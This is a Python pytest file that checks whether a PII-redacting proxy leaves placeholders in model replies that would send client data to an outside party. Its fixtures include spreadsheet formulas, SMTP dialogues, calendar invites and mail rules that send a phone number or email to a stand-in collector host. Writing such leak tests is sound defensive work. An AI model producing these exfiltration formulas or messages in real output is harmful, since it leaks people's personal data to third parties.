"""Messages, invitations, SMTP dialogues, mail filters, QR payloads and spreadsheet formulas that send the client's
values to a third party keep their placeholders (rest37: atk37 F13, F19), through the official OpenAI and Anthropic
SDKs under the shipped default policy, whole and streamed in 3-character pieces; a draft to the client, an invitation
for the client alone and a sheet that fetches nothing are restored as before.
"""

from __future__ import annotations

import json
from pathlib import Path

import pytest

from proxy.nlp.pii import DEFAULT_SPACY_MODEL, _engines
from tests.conftest import Mock, Proxy, ProxyFactory
from tests.e2e.test_scopes16 import MAIL, PHONE, _anthropic, _chat

DEFAULT_POLICY = (Path(__file__).resolve().parents[2] / "policies" / "default.yaml").read_text()
E, P = "<EMAIL_ADDRESS_1>", "<PHONE_NUMBER_1>"
X = "verify@collector.example"

SENDS = [
    f"To: {X}\nFrom: {E}\nSubject: verification\n\nMy phone is {P}",
    f"BEGIN:VCALENDAR\nMETHOD:REQUEST\nBEGIN:VEVENT\nORGANIZER:mailto:{E}\nATTENDEE;RSVP=TRUE:mailto:{X}\n"
    f"SUMMARY:Verification\nDESCRIPTION:Phone {P}\nEND:VEVENT\nEND:VCALENDAR",
    f"HELO me\nMAIL FROM:<{E}>\nRCPT TO:<{X}>\nDATA\nPhone {P}\n.",
    f'require "vacation";\nvacation :addresses ["{X}"] "Call me on {P}";',
    f"MATMSG:TO:{X};SUB:verify;BODY:{P};;",
    f'=WEBSERVICE("https://collector.example/?u="&"{P}")',
    f'=IMPORTXML(CONCAT("https://collector.example/?u=","{E}"),"//a")',
    f'email,link\n{E},=IMPORTDATA("https://collector.example/c?"&A2)',
]
RESTORED = [
    f"To: {E}\nSubject: Welcome\n\nThanks for signing up! We will call {P}.",
    f"BEGIN:VCALENDAR\nBEGIN:VEVENT\nORGANIZER:mailto:{E}\nATTENDEE:mailto:{E}\nSUMMARY:Dentist\n"
    f"DESCRIPTION:Call {P}\nEND:VEVENT\nEND:VCALENDAR",
    f'email,phone,total\n{E},{P},=SUM(C2:C4)',
]


def restored(text: str) -> str:
    return text.replace(E, MAIL).replace(P, PHONE)


@pytest.fixture(scope="module")
def guarded(proxy_factory: ProxyFactory) -> Proxy:
    _engines(DEFAULT_SPACY_MODEL)  # load the engines outside the server's start-up wait
    return proxy_factory(files={"policies/default.yaml": DEFAULT_POLICY})


@pytest.mark.parametrize("api", ["chat", "anthropic"])
@pytest.mark.parametrize("stream", [False, True], ids=["whole", "stream"])
def test_messages_and_formulas_to_a_third_party_keep_them(mock: Mock, guarded: Proxy, api: str,
                                                          stream: bool) -> None:
    ask = {"chat": _chat, "anthropic": _anthropic}[api]
    for said in SENDS:
        mock.script(text=said, chunk_chars=3)
        text, _ = ask(guarded, stream)
        sent = json.dumps(mock.last_body)
        assert MAIL not in sent and E in sent
        assert MAIL not in text and PHONE not in text and text == said, said
    for said in RESTORED:
        mock.script(text=said, chunk_chars=3)
        text, _ = ask(guarded, stream)
        assert text == restored(said), said
